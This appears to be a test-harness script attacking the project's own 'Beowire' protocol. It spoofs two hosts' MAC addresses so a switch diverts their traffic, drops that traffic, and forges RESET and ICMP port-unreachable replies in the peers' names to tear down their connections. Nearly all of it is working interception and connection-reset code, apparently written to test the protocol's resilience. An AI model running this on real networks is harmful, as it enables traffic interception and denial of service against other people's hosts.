# SPDX-License-Identifier: BSD-3-Clause
"""Has a switch believe that two other hosts are where this one is, and speaks in their names.

steal_place.py MAC MAC
    sends frames with their source addresses, a thousand a second each, for a second and a half, so
    that what they send to each other comes here; passes none of it on; and answers each Beowire
    frame by the RESET, and each in a datagram also by the "port unreachable", that its sender would
    get if the other's endpoint had ended. Begins with a line of its input, says "ready" before, and
    at its end how many Beowire frames it has read.
"""

import importlib
import select
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.append(str(Path(__file__).parent))  # which Python leaves out where it is to be safe
_refusals = importlib.import_module("forge_refusals")

_PACKETS = 1500
_PAUSE_S = 0.001
_BEOWIRE, _IPV4 = 0x88B5, 0x0800
_ALL, _SOL_PACKET, _ADD_MEMBERSHIP, _PROMISCUOUS = 0x0003, 263, 1, 1
_UDP = 17
_OPENING = (1, 2, 3)  # CONNECT, ACCEPT, RESET: have no key in their header


def reset(frame: bytes) -> bytes:
    """What refuses a frame of an open connection."""
    head = struct.pack("<BBHHH", 0x37, 3, 0, *struct.unpack("<HH", frame[4:8][2:] + frame[4:6]))
    return head + bytes(20) + frame[8:12] + struct.pack("<I", 1)


def is_frame(frame: bytes) -> bool:
    return len(frame) >= 16 and frame[0] >> 4 == 3 and frame[1] not in _OPENING


def answers(packet: bytes) -> list[bytes]:
    """To what came in an Ethernet frame: packets of the same kind."""
    kind = int.from_bytes(packet[12:14], "big")
    if kind == _BEOWIRE and is_frame(packet[14:]):
        return [packet[12:14] + reset(packet[14:])]
    if kind != _IPV4 or packet[23] != _UDP or not is_frame(packet[42:]):
        return []
    source, target = socket.inet_ntoa(packet[26:30]), socket.inet_ntoa(packet[30:34])
    ports = struct.unpack("!HH", packet[34:38])
    body = reset(packet[42:])
    datagram = struct.pack("!HHHH", ports[1], ports[0], 8 + len(body), 0) + body
    quote = packet[42 : 42 + (min(len(packet), 400) - 42) // 2 * 2]
    return [
        packet[12:14] + _refusals._ip(target, source, _UDP, datagram),
        packet[12:14] + _refusals.refusal(target, source, *ports[::-1], quote),
    ]


def main() -> None:
    hosts = [bytes.fromhex(word.replace(":", "")) for word in sys.argv[1:3]]
    read = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL)) as wire:
        wire.bind(("eth0", _ALL))
        index = socket.if_nametoindex("eth0")
        membership = struct.pack("iHH8s", index, _PROMISCUOUS, 0, b"")
        wire.setsockopt(_SOL_PACKET, _ADD_MEMBERSHIP, membership)
        print("ready", flush=True)
        sys.stdin.readline()
        for _ in range(_PACKETS):
            for host, other in (hosts, hosts[::-1]):
                wire.send(other + host + b"\x88\xb6" + bytes(46))  # nobody's type
            end = time.monotonic() + _PAUSE_S
            while (left := end - time.monotonic()) > 0 and select.select([wire], [], [], left)[0]:
                packet = wire.recv(65536)
                if {packet[:6], packet[6:12]} != set(hosts):
                    continue
                found = answers(packet)
                read += len(found) > 0
                for answer in found:
                    wire.send(packet[6:12] + packet[:6] + answer)
    print(read, flush=True)


if __name__ == "__main__":
    main()
